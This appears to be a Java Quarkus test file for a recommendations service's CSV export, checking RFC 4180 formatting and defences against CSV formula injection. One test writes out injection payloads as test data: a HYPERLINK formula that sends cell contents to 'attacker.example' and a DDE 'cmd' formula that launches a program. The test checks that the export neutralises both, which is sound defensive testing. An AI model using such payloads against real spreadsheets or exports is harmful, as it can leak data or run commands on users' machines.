package org.a4p.recommendations;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.Response;
import org.a4p.testing.Tokens;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

@QuarkusTest
class CsvExportTest {

    @Test
    void csvIsTheReportTablePlusStatusAndRoundTripsTheApi() {
        String tricky = "Text with \"quotes\", commas\r\nand a line break";
        Map<String, Object> body = ProblemsTest.with("text", tricky);
        int trickyNumber = given().contentType(ContentType.JSON).header("Authorization", Tokens.secretariat()).body(body).when().post("/recommendations")
                .then().statusCode(201).extract().path("number");
        Fixtures.changeStatus(trickyNumber, "UNDER_CONSIDERATION", null);

        Response response = given().when().get("/recommendations.csv").then().statusCode(200).extract().response();
        assertThat(response.header("Content-Type")).isEqualToIgnoringWhitespace("text/csv;charset=UTF-8");
        assertThat(response.header("Content-Disposition")).isEqualTo("attachment; filename=\"a4p-recommendations.csv\"");
        byte[] bytes = response.asByteArray();
        assertThat(Arrays.copyOf(bytes, 3)).as("UTF-8 byte order mark").containsExactly(0xEF, 0xBB, 0xBF);
        String csv = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);

        List<List<String>> rows = Rfc4180.parse(csv);
        assertThat(rows.get(0)).containsExactly("Areas of Commitment", "No", "Recommendation (the 'what')",
                "Stakeholder Action (the 'how')", "A4P Para", "Context (see report)", "Status");

        Map<String, String> areaNames = new HashMap<>();
        given().when().get("/areas").then().extract().jsonPath().<Map<String, String>>getList("")
                .forEach(a -> areaNames.put(a.get("code"), a.get("name")));
        List<Map<String, Object>> api = new ArrayList<>();
        for (int page = 0; ; page++) {
            List<Map<String, Object>> items = given().queryParam("size", 100).queryParam("page", page)
                    .when().get("/recommendations").then().extract().jsonPath().getList("items");
            if (items.isEmpty()) {
                break;
            }
            api.addAll(items);
        }
        assertThat(rows).hasSize(api.size() + 1);
        for (int i = 0; i < api.size(); i++) {
            Map<String, Object> r = api.get(i);
            assertThat(rows.get(i + 1)).as("row of %s", r.get("number")).containsExactly(
                    areaNames.get((String) r.get("area")), r.get("number").toString(), asText((String) r.get("text")),
                    asText((String) r.get("stakeholderAction")), r.get("a4pParagraph").toString(), asText((String) r.get("context")),
                    (String) r.get("status"));
        }
        assertThat(rows).anySatisfy(row -> assertThat(row).containsSubsequence(tricky).contains("UNDER_CONSIDERATION"));
        assertThat(rows.get(5).get(3)).isEqualTo("Member States Think tanks/researchers,");
    }

    /**
     * OWASP CSV Injection: a cell starting with =, +, -, @, TAB or CR would run as a formula in a spreadsheet.
     * Each reaches the CSV with a leading single quote, inside quotes, whatever else the cell holds.
     */
    @Test
    void cellsThatASpreadsheetWouldRunAsFormulasAreNeutralised() {
        Map<String, Integer> created = new LinkedHashMap<>();
        for (String start : List.of("=", "+", "-", "@", "\t", "\r")) {
            String text = start + "HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\") " + UUID.randomUUID();
            Map<String, Object> body = ProblemsTest.with("text", text);
            body.put("context", start + "cmd|' /C calc'!A0");
            int number = given().contentType(ContentType.JSON).header("Authorization", Tokens.secretariat()).body(body)
                    .when().post("/recommendations").then().statusCode(201).extract().path("number");
            created.put(text, number);
        }

        byte[] bytes = given().when().get("/recommendations.csv").then().statusCode(200).extract().asByteArray();
        String csv = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        List<List<String>> rows = Rfc4180.parse(csv);
        created.forEach((text, number) -> {
            List<String> row = rows.stream().filter(r -> r.get(1).equals(number.toString())).findFirst().orElseThrow();
            assertThat(row.get(2)).as("text cell of %s", number).isEqualTo("'" + text);
            assertThat(row.get(5)).as("context cell of %s", number).isEqualTo("'" + text.charAt(0) + "cmd|' /C calc'!A0");
            assertThat(csv).as("the text cell of %s, quoted as written", number)
                    .contains(",\"'" + text.replace("\"", "\"\"") + "\",");
        });
        // harmless cells stay as they were: a quote or a minus inside a cell is not a formula
        assertThat(rows).anySatisfy(row -> assertThat(row.get(3)).isEqualTo("Member States Think tanks/researchers,"));
    }

    /**
     * What a cell holds once neutralised (see the test above): the value, after a single quote when it could run, or
     * when it is quotes before such a character (so that the import can take exactly one quote off).
     */
    static String asText(String value) {
        return value.matches("(?s)'*[=+\\-@\t\r].*") ? "'" + value : value;
    }

    /** A strict RFC 4180 reader: CRLF record ends, quoted fields with doubled quotes; anything else fails. */
    static final class Rfc4180 {
        static List<List<String>> parse(String s) {
            List<List<String>> rows = new ArrayList<>();
            List<String> row = new ArrayList<>();
            StringBuilder field = new StringBuilder();
            int i = 0;
            boolean quoted = false;
            boolean fieldStart = true;
            while (i < s.length()) {
                char c = s.charAt(i);
                if (quoted) {
                    if (c == '"' && i + 1 < s.length() && s.charAt(i + 1) == '"') {
                        field.append('"');
                        i += 2;
                    } else if (c == '"') {
                        quoted = false;
                        i++;
                        char after = i < s.length() ? s.charAt(i) : '\r';
                        assertThat(after).as("after a closing quote at %d", i).isIn(',', '\r');
                    } else {
                        field.append(c);
                        i++;
                    }
                } else if (c == '"' && fieldStart) {
                    quoted = true;
                    fieldStart = false;
                    i++;
                } else if (c == ',') {
                    row.add(field.toString());
                    field.setLength(0);
                    fieldStart = true;
                    i++;
                } else if (c == '\r') {
                    assertThat(s.charAt(i + 1)).as("CR must be followed by LF at %d", i).isEqualTo('\n');
                    row.add(field.toString());
                    field.setLength(0);
                    rows.add(row);
                    row = new ArrayList<>();
                    fieldStart = true;
                    i += 2;
                } else {
                    assertThat(c).as("unquoted field character at %d", i).isNotIn('"', '\n');
                    field.append(c);
                    fieldStart = false;
                    i++;
                }
            }
            assertThat(quoted).as("unterminated quoted field").isFalse();
            assertThat(row).as("the last record ends with CRLF").isEmpty();
            return rows;
        }
    }
}
